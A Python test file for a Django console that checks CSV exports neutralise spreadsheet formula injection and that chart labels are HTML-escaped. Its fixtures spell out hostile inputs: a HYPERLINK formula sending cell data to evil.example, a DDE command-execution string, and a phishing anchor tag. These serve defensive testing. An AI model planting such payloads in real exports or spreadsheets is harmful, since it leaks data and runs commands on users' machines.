"""CSV exports and cost charts, under production settings (DEBUG off), through HTTP.

Every CSV export (golden sets, usage, audit) neutralises cells a spreadsheet would run as a
formula (OWASP: a leading =, +, -, @, tab or carriage return gets a leading '), and a golden
set exported and imported again is unchanged. Labels a usage key chose (model, feature,
prompt names) reach Plotly escaped, so a legend or hover can never hold a live link."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from console.accounts.roles import Role
from console.audit.services import SYSTEM
from console.datasets import services as datasets
from console.datasets.items import CONTENT_FIELDS
from console.datasets.models import DatasetItem, ImportJob
from tests.factories import make_member
from tests.usage.helpers import event, hour_ago, ingest, price, rollup

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturn first"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LINK = '<a href="https://evil.example/phish">Click me</a>'


@pytest.fixture(autouse=True)
def production(settings):
    settings.DEBUG = False
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def curator_client(application):
    client = Client(raise_request_exception=False)
    client.force_login(make_member(application, Role.CURATOR, "cur"))
    return client


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def streamed(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_live_formula(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    assert live == [], live


# ---------------------------------------------------------------- golden sets


def dataset_url(dataset, name: str = "") -> str:
    return f"/apps/{dataset.application.key}/datasets/{dataset.key}/{name}"


@pytest.fixture
def risky(application):
    dataset = datasets.create_dataset(actor=SYSTEM, application=application, key="r", name="R")
    for n, text in enumerate(DANGEROUS):
        datasets.add_item(
            actor=SYSTEM,
            dataset=dataset,
            values={
                "id": f"i{n}",
                "question": f"Q{n} {text}",
                "reference_answer": text,
                "note": text,
                "expected_contains": [text],
            },
        )
    return dataset


def test_a_golden_set_csv_export_neutralises_formulas(curator_client, risky):
    response = curator_client.get(dataset_url(risky, "export/"), {"format": "csv"})
    assert response.status_code == 200
    rows = cells(streamed(response))
    assert_no_live_formula(rows)
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_id["i0"]["reference_answer"] == "'" + HYPERLINK
    assert by_id["i1"]["note"] == "'" + DDE


ROUND_TRIP = [
    "=1+1",
    "-5",
    "+44 20 7946 0000",
    "@home",
    "'quoted",
    "'=already quoted",
    "''@twice",
    "\tTab first",
    "\rCR first",
    "plain text",
]


def test_a_golden_set_survives_csv_export_and_import_unchanged(curator_client, application):
    source = datasets.create_dataset(actor=SYSTEM, application=application, key="src", name="S")
    for n, text in enumerate(ROUND_TRIP):
        datasets.add_item(
            actor=SYSTEM,
            dataset=source,
            values={
                "id": f"r{n}",
                "question": text.strip() or "?",
                "reference_answer": text,
                "note": text,
                "tags": ["t"],
            },
        )
    exported = streamed(curator_client.get(dataset_url(source, "export/"), {"format": "csv"}))
    assert_no_live_formula(cells(exported))

    target = datasets.create_dataset(actor=SYSTEM, application=application, key="dst", name="D")
    upload = SimpleUploadedFile("src-draft.csv", exported, content_type="text/csv")
    response = curator_client.post(
        dataset_url(target, "import/"), {"file": upload, "mode": "replace"}
    )
    assert response.status_code == 302
    job = ImportJob.objects.filter(dataset=target).latest("pk")
    assert job.status == ImportJob.Status.VALIDATED, job.report
    confirm = curator_client.post(dataset_url(target, f"import/{job.pk}/"))
    assert confirm.status_code == 302

    def contents(dataset) -> dict:
        return {
            i.item_id: {f: getattr(i, f) for f in CONTENT_FIELDS}
            for i in DatasetItem.objects.filter(dataset=dataset)
        }

    assert contents(target) == contents(source)
    assert contents(target)["r0"]["note"] == "=1+1"
    assert contents(target)["r5"]["note"] == "'=already quoted"


# ---------------------------------------------------------------- usage


@pytest.fixture
def viewer_client(application):
    client = Client(raise_request_exception=False)
    client.force_login(make_member(application, Role.VIEWER, "reader"))
    return client


@pytest.fixture
def hostile_usage(application):
    """Usage whose labels a key holder chose: formulas and HTML."""
    at = hour_ago(3)
    price(application, "gpt-4o-mini", at - timedelta(days=2), "1", "0.5", "2")
    ingest(
        application,
        "prod",
        [
            event("u1", at, input_tokens=1000, feature=HYPERLINK, prompt_version=DDE),
            event("u2", at, input_tokens=2000, feature=LINK, prompt_version=LINK),
            event("u3", at, input_tokens=3000, model=LINK),
        ],
    )
    rollup()
    return application


@pytest.mark.parametrize("view", ["daily", "model", "prompt", "feature", "environment"])
def test_the_usage_csv_export_neutralises_formulas(viewer_client, hostile_usage, view):
    response = viewer_client.get(f"/apps/{hostile_usage.key}/usage/export.csv", {"view": view})
    assert response.status_code == 200
    rows = cells(response.content)
    assert_no_live_formula(rows)
    labels = {row[0] for row in rows[1:]}
    if view == "feature":
        assert "'" + HYPERLINK in labels
    if view == "prompt":
        assert "'" + DDE in labels


def figures(html: str) -> dict[str, dict]:
    found = re.findall(
        r'<script id="(fig-[\w-]+)" type="application/json">(.*?)</script>', html, re.S
    )
    return {name: json.loads(text) for name, text in found}


def texts(figure: dict) -> list[str]:
    """Every string Plotly may render as markup: trace names, labels, x/y categories, text,
    hover text and templates."""
    out: list[str] = []
    for trace in figure.get("data", []):
        for key in ("name", "labels", "x", "y", "text", "hovertext", "hovertemplate"):
            value = trace.get(key)
            values = value if isinstance(value, list) else [value]
            out.extend(v for v in values if isinstance(v, str))
    return out


def test_chart_labels_from_usage_keys_are_escaped(viewer_client, hostile_usage):
    response = viewer_client.get(f"/apps/{hostile_usage.key}/usage/")
    assert response.status_code == 200
    charts = figures(response.content.decode())
    assert {"fig-by-model", "fig-by-feature", "fig-by-prompt"} <= set(charts)
    every = [text for figure in charts.values() for text in texts(figure)]
    assert not [t for t in every if "<a" in t.lower() or "<" in t], every
    escaped = "&lt;a href=&quot;https://evil.example/phish&quot;&gt;Click me&lt;/a&gt;"
    assert escaped in charts["fig-by-feature"]["data"][0]["labels"]
    assert escaped in charts["fig-by-model"]["data"][0]["labels"]
    assert escaped in charts["fig-by-prompt"]["data"][0]["labels"]


def test_chart_fragment_for_htmx_is_escaped_too(viewer_client, hostile_usage):
    response = viewer_client.get(
        f"/apps/{hostile_usage.key}/usage/", HTTP_HX_REQUEST="true", HTTP_HX_TARGET="board"
    )
    assert response.status_code == 200
    charts = figures(response.content.decode())
    assert charts, "the board fragment carries its figures"
    every = [text for figure in charts.values() for text in texts(figure)]
    assert not [t for t in every if "<" in t], every


# ---------------------------------------------------------------- audit


def test_the_audit_csv_export_neutralises_formulas(curator_client, application):
    dataset = datasets.create_dataset(actor=SYSTEM, application=application, key="x", name="X")
    datasets.add_item(actor=SYSTEM, dataset=dataset, values={"question": "Q?"})
    datasets.publish(actor=SYSTEM, dataset=dataset, message=HYPERLINK)  # the audit reason
    response = curator_client.get("/audit/export.csv")
    assert response.status_code == 200
    rows = cells(streamed(response))
    assert_no_live_formula(rows)
    reasons = [dict(zip(rows[0], row, strict=True))["reason"] for row in rows[1:]]
    assert "'" + HYPERLINK in reasons
